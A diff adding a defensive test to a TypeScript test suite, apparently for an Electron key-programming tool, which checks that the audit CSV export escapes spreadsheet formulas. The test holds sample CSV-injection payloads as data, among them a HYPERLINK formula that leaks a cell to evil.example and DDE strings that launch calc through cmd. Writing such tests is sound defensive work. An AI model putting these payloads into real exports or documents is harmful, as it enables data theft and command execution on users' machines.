@@ -1,12 +1,14 @@
 /**
  * Guards found in review: things a technician or a compromised page could otherwise do by
  * mistake — renew keys nobody asked for, send credentials to another host, store a key in
- * clear, ask for a key longer than PSA allows, or leave an erased token on disk.
+ * clear, ask for a key longer than PSA allows, leave an erased token on disk, or put a
+ * formula a spreadsheet would run into the audit CSV.
  */
 import assert from 'node:assert/strict'
 import { readFile, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { test } from 'node:test'
+import { AUDIT_COLUMNS, auditCsv } from '../../electron/core/audit'
 import { dispatch } from '../../electron/core/ipc-dispatch'
 import type { BatchProgress } from '../../shared/ipc/contract'
 import { carDataJson, filesUnder, setupDepot, testHandlers, vinFor, vkey } from '../helpers/depot-env'
@@ -106,4 +108,75 @@ test('the CLI names a folder that does not exist instead of an internal error', 
   const result = await vkey(['audit', '--csv', '/nonexistent-folder/audit.csv'], env)
   assert.equal(result.code, 2)
   assert.match(result.stderr, /\/nonexistent-folder\/.*the folder does not exist/)
+})
+
+/** RFC 4180 CSV (quoted cells, "" for a quote, CRLF between rows), as a spreadsheet reads it. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let cell = ''
+  let quoted = false
+  for (let i = 0; i < text.length; i += 1) {
+    const c = text[i]!
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      cell += '"'
+      i += 1
+    } else if (c === '"') {
+      quoted = !quoted
+    } else if (!quoted && c === ',') {
+      row.push(cell)
+      cell = ''
+    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
+      rows.push([...row, cell])
+      row = []
+      cell = ''
+      i += 1
+    } else {
+      cell += c
+    }
+  }
+  assert.equal(`${cell}${row.join('')}`, '', 'the CSV ends with CRLF')
+  return rows
+}
+
+/** A cell a spreadsheet would run as a formula (or a DDE call): =, +, -, @, tab or CR first. */
+const FORMULA = /^[=+\-@\t\r]/
+
+test('the audit CSV defuses spreadsheet formulas: labels, technicians, profiles and notes starting with =, +, - or @ are written as text', async (t) => {
+  const { env, dataDir, depot, simulator } = await setupDepot(t)
+  const labels = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', '+SUM(1,2)', '-2+3*cmd|\' /C calc\'!A0', '@SUM(A1:A9)']
+  const files = await Promise.all(labels.map(async (label, i) => {
+    const path = join(dataDir, '..', `formula-${i}.json`)
+    await writeFile(path, carDataJson(vinFor(60 + i), { label }))
+    return path
+  }))
+  simulator.faults.statuses.push(200, 403) // one key refused: the refusal has its own row, with the label
+  const batch = await vkey(['batch', ...files, '--duration', '1h', '--concurrency', '1', '--json'], env)
+  assert.equal(batch.code, 4, batch.stderr)
+  const out = join(dataDir, '..', 'audit.csv')
+  const audit = await vkey(['audit', '--csv', out], env)
+  assert.equal(audit.code, 0, audit.stderr)
+  const [header, ...rows] = parseCsv(await readFile(out, 'utf8'))
+  assert.deepEqual(header, [...AUDIT_COLUMNS])
+  const column = (name: (typeof AUDIT_COLUMNS)[number]) => AUDIT_COLUMNS.indexOf(name)
+  assert.equal(rows.length, 4, 'three keys and one refusal')
+  assert.deepEqual(new Set(rows.map((row) => row[column('label')])), new Set(labels.map((label) => `'${label}`)), 'each label is kept whole, after a quote that makes it text')
+  assert.ok(rows.some((row) => row[column('outcome')] === 'refused' && labels.includes(row[column('label')]!.slice(1))))
+  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA, `a cell a spreadsheet would run: ${cell}`)
+
+  // Who and which profile come from this computer (its user name) and the settings: the same
+  // export with hostile values there, and in an error message, is defused the same way.
+  const store = await depot.handovers()
+  const hostile = auditCsv(
+    (await store.list()).map((r) => ({ ...r, technician: '=cmd|\' /C calc\'!A0', profile: '@profile' })),
+    store.events().map((e) => ({ ...e, technician: '+technician', error: { ...e.error, message: '-PSA said =1+1' } })),
+  )
+  const [, ...hostileRows] = parseCsv(hostile)
+  assert.equal(hostileRows.length, 4)
+  for (const row of hostileRows) {
+    assert.match(row[column('technician')]!, /^'(=cmd\|' \/C calc'!A0|\+technician)$/)
+    assert.equal(row[column('profile')], row[column('outcome')] === 'refused' ? 'sim' : "'@profile")
+    for (const cell of row) assert.doesNotMatch(cell, FORMULA, `a cell a spreadsheet would run: ${cell}`)
+  }
+  assert.ok(hostileRows.some((row) => row[column('note')] === "'-PSA said =1+1"))
 })
